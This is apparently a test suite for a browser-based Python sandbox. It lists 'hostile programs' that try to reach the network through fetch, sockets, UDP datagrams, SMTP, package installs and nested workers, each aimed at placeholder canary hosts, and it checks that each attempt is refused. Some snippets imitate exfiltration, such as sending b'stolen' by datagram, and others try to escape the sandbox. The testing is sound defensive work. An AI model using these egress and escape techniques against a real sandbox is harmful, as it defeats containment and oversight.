import { section, type HostileProgram } from '../HostileProgram.ts'
import { PROBES, tellingProbe } from '../probes.ts'
import { NO_NETWORK, NOT_THERE, raises, value } from './leads.ts'

const SAID = 'import js\n",".join(js.heard)'

/** Modules of the network import half of the library, which takes seconds on a busy machine. */
const SLOW_IMPORT = { limits: { timeoutMs: 15_000 }, withinMs: 6000 }

function inOwnWorker(script: string): string {
  return `import js\njs.eval(${JSON.stringify(`self.heard = []; ${script}; 0`)})`
}

/** Each probe in a worker that the program starts itself, where nothing of ours stands in the way. */
const nested = PROBES.map((probe): Parameters<typeof section>[3][number] => [
  `${probe.name}, in a worker of the program's own`,
  value(/^(done|refused)$/),
  inOwnWorker(
    `const nested = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(tellingProbe(probe, 'postMessage'))}]))); nested.onmessage = ({ data }) => heard.push(data)`,
  ),
  { afterwards: SAID },
])

/** Those that differ in the program's own worker, because something of ours is there. */
const direct = PROBES.filter(({ name }) =>
  /^(fetch|fetch from the prototype|fetch of a Request|a synchronous request|a web socket|an event source|an imported script|an imported module|a cache that fetches|the address of the page)$/.test(
    name,
  ),
).map((probe): Parameters<typeof section>[3][number] => [
  `${probe.name}, in the worker of the program`,
  value(/^(done|refused)$/),
  inOwnWorker(tellingProbe(probe, 'heard.push')),
  { afterwards: SAID },
])

export const NETWORK: readonly HostileProgram[] = [
  ...section('network-nested', 'python', 1500, nested),
  ...section('network-direct', 'python', 1500, direct),
  ...section('network-python', 'python', 2500, [
    ['js.fetch', NO_NETWORK, 'import js\njs.fetch("HTTP_CANARY/python")'],
    [
      'js.fetch after delete',
      value(/^refused$/),
      "import js\njs.eval(\"delete self.fetch; self.heard = []; fetch('HTTP_CANARY/deleted').catch(() => heard.push('refused')); 0\")",
      { afterwards: SAID },
    ],
    ['pyfetch', NO_NETWORK, 'from pyodide.http import pyfetch\nawait pyfetch("HTTP_CANARY/python")'],
    ['open_url', NO_NETWORK, 'from pyodide.http import open_url\nopen_url("HTTP_CANARY/python").read()'],
    [
      'urllib',
      NO_NETWORK,
      'import urllib.request\nurllib.request.urlopen("HTTP_CANARY/python").read()',
      SLOW_IMPORT,
    ],
    [
      'http.client',
      NO_NETWORK,
      'import http.client\nhost = "HTTP_CANARY".split("/")[2]\nconnection = http.client.HTTPConnection(host, timeout=1)\nconnection.request("GET", "/canary/client")\nconnection.getresponse().read()',
      SLOW_IMPORT,
    ],
    [
      'a socket',
      NO_NETWORK,
      'import socket\nhost, port = "TCP_CANARY".split("/")[2].split(":")\nsocket.create_connection((host, int(port)), timeout=1)',
    ],
    [
      'a datagram',
      NO_NETWORK,
      'import socket\nhost, port = "UDP_CANARY".split(":")\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", (host, int(port)))',
    ],
    // Emscripten makes an address up, and asks nobody.
    [
      'a look-up of a name',
      value(/'172\.29\./),
      'import socket\nstr(socket.getaddrinfo("stolen.example.invalid", 80))',
    ],
    [
      'a streamed connection of asyncio',
      raises('other-exception', /^NotImplementedError in line 3/),
      'import asyncio\nhost, port = "TCP_CANARY".split("/")[2].split(":")\nawait asyncio.open_connection(host, int(port))',
    ],
    [
      'loadPackage of Pyodide',
      raises('other-exception', /^RuntimeError in line 2: There is no current event loop/),
      'import pyodide_js\nstr(pyodide_js.loadPackage("HTTP_CANARY/package-1.0-py3-none-any.whl"))',
    ],
    [
      'micropip',
      raises('import-error', /micropip/),
      'import micropip\nawait micropip.install("HTTP_CANARY/package-1.0-py3-none-any.whl")',
    ],
    [
      'pip in a process',
      raises('other-exception', /^OSError in line 2: .*There are no other processes/),
      'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "HTTP_CANARY"], check=True)',
    ],
    [
      'mail',
      NO_NETWORK,
      'import smtplib\nhost, port = "TCP_CANARY".split("/")[2].split(":")\nsmtplib.SMTP(host, int(port), timeout=1)',
      SLOW_IMPORT,
    ],
    [
      'a browser window',
      raises('import-error', /^ImportError in line 2: cannot import name 'window' from 'js'/),
      'import webbrowser\nwebbrowser.open("HTTP_CANARY/window")',
    ],
    [
      'a navigation of the worker',
      NOT_THERE,
      'import js\njs.eval("self.location.assign(\'HTTP_CANARY/away\')")',
    ],
    ['a window of a worker', NOT_THERE, 'import js\njs.eval("self.open(\'HTTP_CANARY/window\')")'],
    ['an image', NOT_THERE, 'import js\njs.eval("new Image().src = \'HTTP_CANARY/image\'")'],
    ['a document', NOT_THERE, 'import js\njs.document.createElement("img").src = "HTTP_CANARY/image"'],
    [
      'run_js of Pyodide',
      NO_NETWORK,
      'from pyodide.code import run_js\nrun_js("fetch(\'HTTP_CANARY/run-js\')")',
    ],
    [
      'a file system that fetches',
      raises(
        'runtime-crash',
        /^The program crashed the interpreter: .*(The sandbox has no network|XMLHttpRequest)/,
      ),
      'import pyodide_js\npyodide_js.FS.createLazyFile("/home/pyodide", "lazy", "HTTP_CANARY/lazy", True, False)\nopen("lazy").read()',
    ],
    ['a socket of Emscripten', NO_NETWORK, 'import js\nstr(js.WebSocket.new("SOCKET_CANARY/emscripten"))'],
  ]),
]
